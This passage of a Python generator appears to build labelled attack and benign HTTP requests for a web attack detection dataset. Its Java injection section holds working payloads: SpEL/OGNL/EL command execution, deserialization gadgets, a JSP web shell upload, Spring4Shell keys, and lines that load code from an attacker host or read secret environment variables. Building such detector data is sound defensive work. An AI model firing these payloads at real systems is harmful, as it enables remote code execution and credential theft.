    ("query", lambda: "query Viewer{viewer{id}}"),
]
CTX["benign_graphql"]["mextras"] = [("map", lambda: '{"0": ["variables.file"]}')]

WEIGHTS = {
    "java_injection": {
        "query": 3,
        "form": 2,
        "json": 2,
        "header": 1,
        "cookie": 1,
        "multipart": 1,
        "xml": 1,
        "query_key": 1,
        "json_key": 0.7,
        "path": 1,
    },
    "php_injection": {
        "query": 3,
        "form": 2,
        "json": 1.5,
        "multipart": 1.5,
        "cookie": 1.5,
        "header": 0.7,
        "path": 1,
        "query_key": 0.4,
        "xml": 0.5,
    },
    "code_injection": {
        "query": 2,
        "json": 3,
        "form": 2,
        "multipart": 1,
        "header": 0.6,
        "cookie": 1,
        "path": 0.6,
        "xml": 0.6,
        "query_key": 0.4,
    },
    "rfi": {"query": 5, "form": 1.5, "json": 1, "cookie": 1, "path": 1, "header": 0.5, "multipart": 0.6, "xml": 0.5},
    "ssrf": {"query": 3, "json": 3, "form": 1.5, "header": 1, "xml": 1, "multipart": 0.7, "path": 1, "cookie": 0.5},
    "rce": {
        "query": 3,
        "form": 2,
        "json": 2,
        "multipart": 1.2,
        "header": 0.8,
        "cookie": 0.7,
        "path": 1,
        "xml": 0.7,
        "query_key": 0.3,
    },
    "sqli": {
        "query": 3,
        "form": 2,
        "json": 2,
        "cookie": 1,
        "header": 1,
        "path": 1,
        "query_key": 0.7,
        "json_key": 0.5,
        "multipart": 0.7,
        "xml": 0.7,
    },
    "nosqli": {"json": 4, "query_key": 2, "form": 1.5, "query": 1.5, "cookie": 0.6, "multipart": 0.5, "path": 0.4},
    "ldapi": {
        "query": 3,
        "form": 2.5,
        "json": 2,
        "xml": 0.7,
        "multipart": 0.5,
        "cookie": 0.5,
        "header": 0.6,
        "path": 0.6,
    },
    "ssti": {
        "query": 2.5,
        "form": 2,
        "json": 2,
        "multipart": 1,
        "path": 1,
        "cookie": 0.7,
        "header": 0.7,
        "xml": 0.7,
        "query_key": 0.3,
    },
    "crlf": {
        "query": 3,
        "path": 2,
        "json": 1.5,
        "form": 1.5,
        "cookie": 1,
        "header": 1,
        "multipart": 0.7,
        "query_key": 0.5,
        "xml": 0.5,
    },
    "mail_injection": {"form": 4, "json": 2.5, "multipart": 1, "query": 1, "xml": 0.6, "header": 0.4, "cookie": 0.4},
    "xss": {
        "query": 3,
        "form": 2,
        "json": 2,
        "path": 1,
        "header": 1,
        "cookie": 0.7,
        "multipart": 1,
        "xml": 0.5,
        "query_key": 0.5,
        "json_key": 0.3,
    },
    "path_traversal": {
        "query": 3.5,
        "path": 3,
        "json": 1,
        "form": 1,
        "cookie": 0.7,
        "header": 0.6,
        "multipart": 1,
        "xml": 0.5,
    },
    "xxe": {"xml": 6, "multipart": 2, "form": 0.8, "json": 0.6, "query": 0.6},
    "log4shell": {
        "header": 5,
        "json": 1.5,
        "query": 1.5,
        "form": 1,
        "cookie": 1,
        "path": 0.7,
        "multipart": 0.5,
        "xml": 0.5,
        "query_key": 0.3,
        "json_key": 0.3,
    },
    "benign_api_json": {"json": 6, "json_key": 1, "query": 1.5, "form": 1, "multipart": 0.6, "query_key": 0.8},
    "benign_headers": {"header": 6, "cookie": 3, "query": 0.6, "json": 0.6},
    "benign_paths": {
        "path": 6,
        "query": 1.2,
        "json": 0.8,
        "form": 0.6,
        "header": 0.6,
        "multipart": 0.4,
        "xml": 0.4,
        "cookie": 0.4,
    },
    "benign_search": {
        "query": 5,
        "json": 1.5,
        "form": 1,
        "path": 1,
        "cookie": 0.6,
        "header": 0.3,
        "multipart": 0.3,
        "xml": 0.3,
    },
    "benign_prose": {"json": 3, "form": 3, "multipart": 1, "query": 0.8, "xml": 0.7},
    "benign_richtext": {"json": 3, "form": 2, "multipart": 1, "xml": 0.8, "query": 0.4},
    "benign_markdown": {"json": 3, "form": 2, "multipart": 1, "xml": 0.6, "query": 0.4},
    "benign_code": {"json": 3, "form": 2, "multipart": 1.5, "xml": 0.6, "query": 0.5},
    "benign_templates": {"json": 3, "form": 2, "multipart": 1, "xml": 1, "query": 0.3},
    "benign_email": {"form": 3, "json": 2.5, "multipart": 0.8, "query": 1, "xml": 0.5, "cookie": 0.5, "header": 0.4},
    "benign_ldap_like": {"query": 3, "json": 2, "form": 1.5, "path": 0.8, "xml": 0.5, "cookie": 0.4, "header": 0.4},
    "benign_urls": {
        "query": 3,
        "json": 2.5,
        "form": 1,
        "header": 1,
        "xml": 0.6,
        "multipart": 0.5,
        "cookie": 0.5,
        "path": 0.4,
    },
    "benign_base64": {"json": 3, "header": 1.5, "cookie": 1, "form": 1, "multipart": 1, "query": 1, "xml": 0.5},
    "benign_commerce": {
        "json": 2.5,
        "form": 2,
        "query": 1.5,
        "cookie": 0.8,
        "path": 0.8,
        "multipart": 0.4,
        "xml": 0.4,
        "query_key": 0.5,
    },
    "benign_graphql": {"json": 5, "query": 2, "multipart": 0.8, "form": 0.5},
}

XML_BAD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


KEY_OK = {"sqli", "xss", "crlf", "log4shell", "java_injection", "ssti"}
BENIGN_RESTRICTED = {"path", "query_key", "json_key", "header", "cookie"}
BENIGN_FREE_EXTRA = {"benign_search": {"path", "cookie"}, "benign_ldap_like": {"path"}}


def compatible(it, pl, cat):
    p = it["payload"]
    if it.get("places") and pl not in it["places"]:
        return False
    if not it.get("places"):
        if cat.startswith("benign_") and pl in BENIGN_RESTRICTED - BENIGN_FREE_EXTRA.get(cat, set()):
            return False
        if pl in ("query_key", "json_key") and not it.get("key") and cat not in KEY_OK:
            return False
    if "obj" in it and pl in ("json_key", "query_key", "header", "cookie", "path", "xml"):
        return False
    if it.get("key") and pl not in ("query_key", "form", "json_key"):
        return False
    if pl == "header":
        if not re.fullmatch(r"[\x20-\x7e]+", p) or p != p.strip() or len(p) > 3000:
            return False
    if pl == "xml" and not it.get("whole") and XML_BAD.search(p):
        return False
    if pl in ("query_key", "json_key") and len(p) > 400:
        return False
    if pl == "cookie" and len(p) > 3000:
        return False
    if it.get("fname") and ('"' in p or "\r" in p or "\n" in p):
        return False
    return True


# --------------------------------------------------------------------------
# request builders
# --------------------------------------------------------------------------

QUERY_EXTRAS = [
    ("page", lambda: str(ri(1, 9))),
    ("lang", lambda: pick(["en", "de", "fr", "es", "pt-BR"])),
    ("sort", lambda: pick(["-updated_at", "name", "price_asc", "newest"])),
    ("limit", lambda: str(pick([10, 20, 25, 50]))),
    ("utm_source", lambda: pick(["newsletter", "twitter", "google"])),
    ("_", lambda: str(ts() * 1000 + ri(0, 999))),
    ("v", lambda: str(ri(1, 5))),
    ("ref", lambda: pick(["nav", "footer", "email", "home"])),
    ("format", lambda: pick(["json", "html"])),
]
JSON_EXTRAS = [
    ("locale", lambda: pick(["en-US", "de-DE", "fr-FR", "pt-BR", "ja-JP"])),
    ("clientVersion", lambda: "%d.%d.%d" % (ri(1, 5), ri(0, 20), ri(0, 9))),
    ("requestId", uuid4),
    ("timezone", lambda: pick(["Europe/Berlin", "America/New_York", "Asia/Tokyo", "UTC"])),
    ("source", lambda: pick(["web", "ios", "android", "dashboard"])),
    ("page", lambda: ri(1, 9)),
    ("dryRun", lambda: R.random() < 0.5),
]
FORM_EXTRAS = [
    ("csrf_token", lambda: hexs(32)),
    ("submit", lambda: pick(["Save", "Send", "Submit", "Continue"])),
    ("remember", lambda: "1"),
    ("redirect", lambda: pick(["/dashboard", "/account", "/thanks"])),
    ("locale", lambda: pick(["en_US", "de_DE", "fr_FR"])),
    ("_method", lambda: pick(["put", "patch"])),
]


def pick_extras(pool, n, avoid):
    out = []
    for name, fn in R.sample(pool, min(n, len(pool))):
        if name in avoid:
            continue
        out.append((name, fn()))
    return out


def boundary():
    return pick(
        [
            "----WebKitFormBoundary" + "".join(R.choice(string.ascii_letters + string.digits) for _ in range(16)),
            "------------------------" + hexs(16),
            "----geckoformboundary" + hexs(24),
            hexs(32),
        ]
    )


def xml_name(n):
    n = re.sub(r"[^A-Za-z0-9_.-]", "_", n)
    if not re.match(r"[A-Za-z_]", n):
        n = "v" + n
    return n


def xml_esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")


def uescape_json(s):
    out = []
    for c in s:
        o = ord(c)
        if o > 0xFFFF:
            out.append(json.dumps(c)[1:-1])
        elif c.isascii() and c.isalnum() and R.random() < 0.7:
            out.append(c)
        else:
            out.append("\\u%04x" % o)
    return '"' + "".join(out) + '"'


PHV = "\x01PAYLOADVALUE\x01"
PHK = "\x01PAYLOADKEY\x01"


def body_method(it, cat=""):
    if cat == "benign_graphql":
        return "POST"
    return it.get("method") or pick(["POST", "POST", "POST", "POST", "PUT", "PATCH"])


def build(cat, label, it, pl, terse):
    p = it["payload"]
    ctx = CTX[cat]
    host = pick(APP_HOSTS)
    kind = "tool" if terse else ("browser" if R.random() < 0.62 else "app")
    if kind == "tool":
        ua, acc = pick(TOOL_UAS), pick(["*/*", "*/*", "*/*", "application/json"])
    elif kind == "browser":
        ua = ua_browser()
        acc = pick(
            [
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
                "application/json, text/plain, */*",
                "*/*",
            ]
        )
    else:
        ua, acc = ua_app(), pick(["application/json", "application/json, */*"])
    name = it.get("param") or pick(ctx["params"])
    path = it.get("path") or pick(ctx["paths"])
    method = it.get("method")
    query = ""
    body = ""
    ctype = None
    hset = {}  # extra headers set by placement
    cookie_add = None

    if pl == "query":
        method = method or (
            pick(["GET"] * 8 + ["DELETE", "HEAD"])
            if label == "attack"
            else ("GET" if cat == "benign_graphql" else pick(["GET"] * 12 + ["HEAD"]))
        )
        safe = pick(["", "", "/:", "/:,'()*!@$"])
        pairs = [name + "=" + quote(p, safe=safe)]
        if not terse:
            for k, v in pick_extras(ctx.get("qextras", QUERY_EXTRAS), ri(0, 3), {name}):
                pairs.insert(ri(0, len(pairs)), k + "=" + quote(v, safe=""))
        query = "&".join(pairs)
    elif pl == "query_key":
        method = method or (pick(["GET"] * 6 + ["DELETE"]) if label == "attack" else "GET")
        key = quote(p, safe=pick(["", "[]", "[]$"]))
        val = it.get("kval", pick(["1", "true", tok(), "", "x"]))
        pairs = [key + "=" + quote(str(val), safe="")]
        if not terse:
            for k, v in pick_extras(QUERY_EXTRAS, ri(0, 2), set()):
                pairs.append(k + "=" + quote(v, safe=""))
        query = "&".join(pairs)
    elif pl == "path":
        method = method or pick(["GET"] * 8 + ["DELETE", "PUT"] if not it.get("fullpath") else ["GET"] * 9 + ["HEAD"])
        slash = it.get("slash", cat in ("path_traversal", "ssrf", "rfi", "benign_paths", "benign_urls"))
        seg = quote(p, safe=PATH_SAFE + ("/" if slash else ""))
        if it.get("fullpath"):
            path = seg
        else:
            prefix = it.get("path") or pick(ctx["prefixes"])
            path = prefix.rstrip("/") + "/" + seg
        if method in ("PUT",):
            ctype = "application/json"
            body = json.dumps({"updated": True})
        if not terse and R.random() < 0.3:
            k, v = pick(QUERY_EXTRAS)
            query = k + "=" + quote(v(), safe="")
    elif pl in ("json", "json_key"):
        method = body_method(it, cat)
        ea = R.random() < 0.5
        sep = pick([(",", ":"), (", ", ": ")])
        val = it["obj"] if "obj" in it else PHV
        if it.get("whole") and "obj" in it:
            top = it["obj"]
        else:
            inner = {}
            if pl == "json_key":
                inner[PHK] = it.get("kval", pick([True, 1, "x", tok(), {"enabled": True}]))
            else:
                inner[name] = val
            if not terse or "jextras" in ctx:
                for k, v in pick_extras(
                    ctx.get("jextras", JSON_EXTRAS), ri(0, 3) if "jextras" not in ctx else 2, {name}
                ):
                    inner[k] = v
                if R.random() < 0.25 and "jextras" not in ctx:
                    top = {pick(["data", "attributes", "payload", "input", "params"]): inner}
                else:
                    top = inner
            else:
                top = inner
        body = json.dumps(top, ensure_ascii=ea, separators=sep)
        if pl == "json" and "obj" not in it:
            enc = (
                uescape_json(p)
                if (it["hard"] and label == "attack" and R.random() < 0.3)
                else json.dumps(p, ensure_ascii=ea)
            )
            body = body.replace(json.dumps(PHV), enc, 1)
        if pl == "json_key":
            body = body.replace(json.dumps(PHK), json.dumps(p, ensure_ascii=ea), 1)
        if it.get("uesc_dollar"):
            body = body.replace('"$', '"\\u0024')
        ctype = it.get("ctype") or pick(["application/json", "application/json", "application/json; charset=utf-8"])
    elif pl == "form":
        method = body_method(it, cat)
        if it.get("key"):
            first_pair = quote_plus(p, safe=pick(["", "[]", "[]$"])) + "=" + quote_plus(str(it.get("kval", tok())))
        else:
            first_pair = quote_plus(name) + "=" + quote_plus(p)
        pairs = [first_pair]
        if not terse:
            for k, v in pick_extras(FORM_EXTRAS, ri(1, 3), {name}):
                pairs.insert(ri(0, len(pairs)), quote_plus(k) + "=" + quote_plus(v))
        body = "&".join(pairs)
        ctype = pick(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
    elif pl == "multipart":
        method = it.get("method") or ("POST" if cat == "benign_graphql" else pick(["POST", "POST", "POST", "PUT"]))
        b = boundary()
        while b in p:
            b = boundary()
        parts = []
        if not terse:
            mpool = ctx.get("mextras") or [
                ("csrf_token", lambda: hexs(32)),
                ("title", lambda: pick(WORDS).title() + " " + pick(WORDS)),
                ("visibility", lambda: pick(["private", "team", "public"])),
                ("folder_id", lambda: str(ri(100, 99999))),
            ]
            for k, v in pick_extras(mpool, min(len(mpool), ri(1, 2)), {name}):
                parts.append('Content-Disposition: form-data; name="%s"\r\n\r\n%s' % (k, v))
        if it.get("fname"):
            content = it.get("content") or pick(
                ["GIF89a\x01\x00\x01\x00", "%PDF-1.4\n%" + tok(), "PK\x03\x04" + tok(), "hello " + tok()]
            )
            parts.append(
                'Content-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s'
                % (it.get("field", "file"), p, it.get("pctype", "application/octet-stream"), content)
            )
        elif it.get("file"):
            parts.append(
                'Content-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s'
                % (it.get("field", "file"), it.get("filename", tok() + ".txt"), it.get("pctype", "text/plain"), p)
            )
        else:
            parts.insert(ri(0, len(parts)), 'Content-Disposition: form-data; name="%s"\r\n\r\n%s' % (name, p))
        if it.get("mfile"):
            fn, fname, fct, fcontent = it["mfile"]
            parts.append(
                'Content-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s'
                % (fn, fname, fct, fcontent)
            )
        body = "".join("--%s\r\n%s\r\n" % (b, part) for part in parts) + "--%s--\r\n" % b
        ctype = "multipart/form-data; boundary=" + b
    elif pl == "xml":
        method = body_method(it, cat)
        if it.get("whole"):
            body = p
        else:
            root = xml_name(pick(ctx["xmlroot"]))
            field = xml_name(name)
            inner = ""
            if not terse:
                inner = pick(
                    [
                        "<id>%d</id>" % ri(1, 99999),
                        "<locale>en-US</locale>",
                        "<version>%d</version>" % ri(1, 9),
                        "<requestId>%s</requestId>" % uuid4(),
                    ]
                )
            el = "<%s>%s</%s>" % (field, xml_esc(p), field)
            doc = "<%s>%s%s</%s>" % (root, inner, el, root)
            if not terse and R.random() < 0.3:
                doc = (
                    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>%s</soap:Body></soap:Envelope>'
                    % doc
                )
            body = '<?xml version="1.0" encoding="UTF-8"?>\n' + doc
        ctype = it.get("ctype") or pick(
            ["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"]
        )
    elif pl == "header":
        hname = it.get("hdr") or pick(ctx["hdrs"])
        method = method or pick(["GET"] * 7 + ["POST"])
        hset[hname] = p
        if method in ("POST", "PUT", "PATCH"):
            ctype = "application/json"
            body = json.dumps({pick(["event", "data", "action"]): pick(["ping", "refresh", "view", tok()])})
        if not terse and R.random() < 0.4:
            k, v = pick(QUERY_EXTRAS)
            query = k + "=" + quote(v(), safe="")
    elif pl == "cookie":
        method = method or pick(["GET"] * 7 + ["POST"])
        cname = it.get("param") or pick(ctx["cookies"])
        cookie_add = cname + "=" + quote(p, safe=COOKIE_SAFE)
        if method == "POST":
            ctype = "application/x-www-form-urlencoded"
            body = "action=" + pick(["save", "refresh", "load"])
        if not terse and R.random() < 0.4:
            k, v = pick(QUERY_EXTRAS)
            query = k + "=" + quote(v(), safe="")
    else:
        raise ValueError(pl)

    if it.get("query_extra"):
        query = (query + "&" if query else "") + it["query_extra"]
    ex = {} if terse else extras(host, kind, bool(body))
    headers = {"Host": host, "User-Agent": ua, "Accept": acc}
    for k, v in ex.items():
        headers[k] = v
    for k, v in it.get("xh", {}).items():
        headers[k] = v
    for k, v in hset.items():
        headers[k] = v
    if cookie_add:
        if "Cookie" in headers and R.random() < 0.7:
            headers["Cookie"] = headers["Cookie"] + "; " + cookie_add
        else:
            headers["Cookie"] = cookie_add
    if ctype:
        headers.pop("Content-Type", None)
        headers["Content-Type"] = ctype
    return method, path, query, headers, body


# --------------------------------------------------------------------------
# self-checks on every row
# --------------------------------------------------------------------------


def _walk(o, vals, keys):
    if isinstance(o, dict):
        for k, v in o.items():
            keys.append(k)
            vals.append(v)
            _walk(v, vals, keys)
    elif isinstance(o, list):
        for v in o:
            vals.append(v)
            _walk(v, vals, keys)


def check_row(row, it):
    p = row["payload"]
    pl = row["placement"]
    h = row["headers"]
    for k, v in h.items():
        assert re.fullmatch(r"[\x20-\x7e]*", v), (row["id"], k)
        assert re.fullmatch(r"[A-Za-z0-9.-]+", k), (row["id"], k)
    assert list(h)[:3] == ["Host", "User-Agent", "Accept"], row["id"]
    assert bool(row["body"]) == ("Content-Type" in h), row["id"]
    assert row["path"].startswith("/") and re.fullmatch(r"[\x21-\x7e]+", row["path"]), row["id"]
    assert re.fullmatch(r"[\x21-\x7e]*", row["query"]) and "#" not in row["query"], row["id"]
    ct = h.get("Content-Type", "")
    body = row["body"]
    if ct.startswith("application/json"):
        obj = json.loads(body)
        vals, keys = [], []
        _walk(obj, vals, keys)
        if "obj" in it:
            assert it["obj"] in vals or it["obj"] == obj, row["id"]
            assert compact(it["obj"]) == p
        elif pl == "json":
            assert p in vals, row["id"]
        elif pl == "json_key":
            assert p in keys, row["id"]
    if ct.startswith("application/x-www-form-urlencoded"):
        pairs = parse_qsl(body, keep_blank_values=True)
        if pl == "form":
            assert any(p == k or p == v for k, v in pairs), row["id"]
    if pl == "query":
        assert any(p == v for k, v in parse_qsl(row["query"], keep_blank_values=True)), row["id"]
    if pl == "query_key":
        assert any(p == k for k, v in parse_qsl(row["query"], keep_blank_values=True)), row["id"]
    if pl == "path":
        assert unquote(row["path"]).endswith(p), row["id"]
    if pl == "header":
        assert p in h.values(), row["id"]
    if pl == "cookie":
        cs = [c.split("=", 1) for c in h["Cookie"].split("; ")]
        assert any(len(c) == 2 and unquote(c[1]) == p for c in cs), row["id"]
    if pl == "multipart":
        assert ct.startswith("multipart/form-data; boundary=")
        b = ct.split("boundary=", 1)[1]
        assert body.endswith("--" + b + "--\r\n") and body.startswith("--" + b + "\r\n"), row["id"]
        assert p in body, row["id"]
    if pl == "xml" and not it.get("whole"):
        texts = []
        prs = xml.parsers.expat.ParserCreate()
        buf = []
        prs.CharacterDataHandler = lambda d: buf.append(d)
        prs.EndElementHandler = lambda n: (texts.append("".join(buf)), buf.clear())
        prs.StartElementHandler = lambda n, a: buf.clear()
        prs.Parse(body.encode("utf-8"), True)
        assert p in texts, row["id"]
    if label_is_benign(row) and pl == "xml":
        prs = xml.parsers.expat.ParserCreate()
        prs.Parse(body.encode("utf-8"), True)


def label_is_benign(row):
    return row["label"] == "benign"


# ==========================================================================
# attack generators
# ==========================================================================

ENVV = [
    "AWS_SECRET_ACCESS_KEY",
    "DB_PASSWORD",
    "SPRING_DATASOURCE_PASSWORD",
    "JWT_SECRET",
    "STRIPE_API_KEY",
    "DATABASE_URL",
    "GITHUB_TOKEN",
    "SECRET_KEY_BASE",
]
GADGETS = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.ChainedTransformer",
    "sun.reflect.annotation.AnnotationInvocationHandler",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "org.springframework.beans.factory.ObjectFactory",
    "java.util.PriorityQueue",
    "org.hibernate.engine.spi.TypedValue",
    "org.apache.commons.beanutils.BeanComparator",
    "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
    "org.codehaus.groovy.runtime.ConvertedClosure",
]


def g_java():
    L = []
    L.append(lambda: A(S("#{T(java.lang.Runtime).getRuntime().exec('<<c>>')}", c=ucmd())))
    L.append(lambda: A(S('${T(java.lang.Runtime).getRuntime().exec("<<c>>")}', c=ucmd())))
    L.append(lambda: A(S("#{new java.lang.ProcessBuilder({'/bin/sh','-c','<<c>>'}).start()}", c=ucmd())))
    L.append(lambda: A(S("${T (java.lang.Runtime) .getRuntime() .exec( '<<c>>' )}", c=ucmd()), True))
    L.append(
        lambda: A(
            S(
                "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('<<c>>'))}",
                c=ucmd(),
            )
        )
    )

    def ognl_full():
        v = pick(["p", "pb", "proc", "x", "q"])
        return A(
            S(
                "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#ct=#context['com.opensymphony.xwork2.ActionContext.container']).(#ou=#ct.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear()).(#ou.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#<<v>>=new java.lang.ProcessBuilder({'/bin/sh','-c','<<c>>'})).(#<<v>>.redirectErrorStream(true)).(@org.apache.commons.io.IOUtils@toString(#<<v>>.start().getInputStream()))}",
                v=v,
                c=ucmd(),
            )
        )

    L.append(ognl_full)
    L.append(
        lambda: A(
            S(
                '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("<<c>>")}',
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "${pageContext.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('<<c>>')}",
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                'Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), "<<c>>")',
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "#{new javax.script.ScriptEngineManager().getEngineByName('<<e>>').eval(\"java.lang.Runtime.getRuntime().exec('<<c>>')\")}",
                e=pick(["js", "nashorn", "javascript", "JavaScript", "ecmascript"]),
                c=ucmd(),
            )
        )
    )
    L.append(lambda: A(S("@{java.lang.Runtime.getRuntime().exec('<<c>>')}", c=ucmd())))
    L.append(
        lambda: A(
            S(
                'new java.util.Scanner(Runtime.getRuntime().exec("<<c>>").getInputStream()).useDelimiter("\\\\A").next()',
                c=ucmd(),
            )
        )
    )
    L.append(lambda: A(S('"<<c>>".execute().text', c=ucmd())))
    L.append(
        lambda: A(
            S(
                "def <<v>> = ['bash','-c','<<c>>'].execute(); <<v>>.waitFor(); println <<v>>.text",
                v=pick(["p", "proc", "out"]),
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                '@groovy.transform.ASTTest(value={ assert java.lang.Runtime.getRuntime().exec("<<c>>") })\ndef <<v>>',
                c=ucmd(),
                v=alpha(1, 4),
            ),
            True,
        )
    )

    def ser_b64():
        cls = pick(GADGETS)
        raw = b"\xac\xed\x00\x05sr" + len(cls).to_bytes(2, "big") + cls.encode() + rbytes(ri(20, 60))
        return A(
            b64(raw),
            True,
            ["cookie", "form", "json", "query", "header"],
            param=pick(["rememberMe", "javax.faces.ViewState", "state", "data"]),
            hdr="X-Session-State",
        )

    L.append(ser_b64)

    def ser_hex():
        cls = pick(GADGETS)
        return A(
            "aced0005737200" + "%02x" % len(cls) + cls.encode().hex() + hexs(ri(16, 48)),
            True,
            ["json", "form", "query", "multipart"],
        )

    L.append(ser_hex)
    L.append(
        lambda: A(
            S(
                '<sorted-set><string><<t>></string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string><string><<c>></string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
                t=tok(),
                c=ucmd(),
            ),
            False,
            ["xml"],
            whole=True,
            path=pick(["/api/v1/import", "/struts2-rest-showcase/orders/3", "/api/jobs"]),
        )
    )
    L.append(
        lambda: OBJ(
            [
                "ch.qos.logback.core.db.DriverManagerConnectionSource",
                {
                    "url": S(
                        "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://<<h>>/<<t>>.sql'",
                        h=ahost(),
                        t=tok(),
                    )
                },
            ],
            False,
            ["json"],
            param=pick(["config", "source", "value"]),
        )
    )

    def scg():
        o = {
            "id": tok(),
            "filters": [
                {
                    "name": "AddResponseHeader",
                    "args": {
                        "name": "X-" + alpha(3, 6).title(),
                        "value": S(
                            '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"<<c>>"}).getInputStream()))}',
                            c=short_cmd(),
                        ),
                    },
                }
            ],
            "uri": "http://example.com",
            "order": 0,
        }
        return OBJ(o, False, ["json"], whole=True, path="/actuator/gateway/routes/" + o["id"], method="POST")

    L.append(scg)

    def fastjson():
        o = {
            alpha(1, 3): {
                "@type": "org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
                "driverClassLoader": {"@type": "com.sun.org.apache.bcel.internal.util.ClassLoader"},
                "driverClassName": "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A"
                + "".join(
                    pick("$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_") for _ in range(ri(40, 80))
                ),
            }
        }
        return OBJ(o, True, ["json"], whole=True)

    L.append(fastjson)

    def s4s():
        keys = [
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
            "class.module.classLoader.resources.context.parent.pipeline.first.directory",
            "class.module.classLoader.resources.context.parent.pipeline.first.prefix",
            "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat",
            "class.module.classLoader.URLs[0]",
            "class.classLoader.resources.dirContext.docBase",
            "class.module.classLoader.DefaultAssertionStatus",
        ]
        k = pick(keys)
        hard = False
        if R.random() < 0.35:
            k = "C" + k[1:] if R.random() < 0.5 else k.replace("classLoader", "ClassLoader")
            hard = True
        vals = {
            "pattern": '%{c2}i if("'
            + alpha(1, 3)
            + '".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); } %{suffix}i',
            "suffix": ".jsp",
            "directory": "webapps/ROOT",
            "prefix": tok(),
            "fileDateFormat": "",
            "URLs[0]": "http://%s/%s.jar" % (ahost(), tok()),
            "docBase": "/",
            "DefaultAssertionStatus": "true",
        }
        kv = [v for kk, v in vals.items() if k.endswith(kk)]
        return A(k, hard, ["query_key", "form", "json_key"], key=True, kval=kv[0] if kv else "x")

    L.append(s4s)
    L.append(
        lambda: A(
            "#{T(java.lang.Runtime).getRuntime().exec(new java.lang.String(new char[]{%s}))}"
            % ",".join(str(ord(ch)) for ch in short_cmd()),
            True,
        )
    )

    def char_concat():
        c = pick(["id", "ls", "ps", "env", "pwd", "w", "who"])
        parts = ["T(java.lang.Character).toString(%d)" % ord(ch) for ch in c]
        expr = parts[0] + "".join(".concat(%s)" % x for x in parts[1:])
        return A(S("${T(java.lang.Runtime).getRuntime().exec(<<e>>)}", e=expr), True)

    L.append(char_concat)
    L.append(lambda: A(S("#{T(java.lang.System).getenv().get('<<v>>')}", v=pick(ENVV))))
    L.append(
        lambda: A(
            S(
                "${new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://<<h>>/<<t>>.jar')}).loadClass('<<k>>').newInstance()}",
                h=ahost(),
                t=tok(),
                k=alpha(5, 9).title(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                '<%@ page import="java.io.*" %><% String c = request.getParameter("<<p>>"); Process pr = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); out.println(new BufferedReader(new InputStreamReader(pr.getInputStream())).readLine()); %>',
                p=pick(["cmd", "c", "x", "q"]),
            ),
            False,
            ["multipart"],
            file=True,
            filename=tok() + pick([".jsp", ".jspx", ".jsp;.png"]),
            pctype="application/octet-stream",
        )
    )
    L.append(
        lambda: A(
            S('T(java.lang.Runtime).getRuntime().exec("<<c>>")', c=ucmd()),
            False,
            ["header"],
            hdr="spring.cloud.function.routing-expression",
            path="/functionRouter",
            method="POST",
        )
    )
    L.append(
        lambda: A(
            S(
                'bsh.Interpreter <<v>> = new bsh.Interpreter(); <<v>>.eval("exec(\\"<<c>>\\")");',
                v=alpha(1, 3),
                c=short_cmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "var <<v>> = Java.type('java.lang.ProcessBuilder'); new <<v>>(['sh','-c','<<c>>']).start();",
                v=alpha(2, 4),
                c=ucmd(),
            )
        )
    )
    L.append(lambda: A(S("''.class.forName('java.lang.Runtime').getRuntime().exec('<<c>>')", c=ucmd())))
    L.append(
        lambda: A(
            S(
                "${empty param.<<p>> ? ''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('<<c>>') : 0}",
                p=alpha(2, 5),
                c=ucmd(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
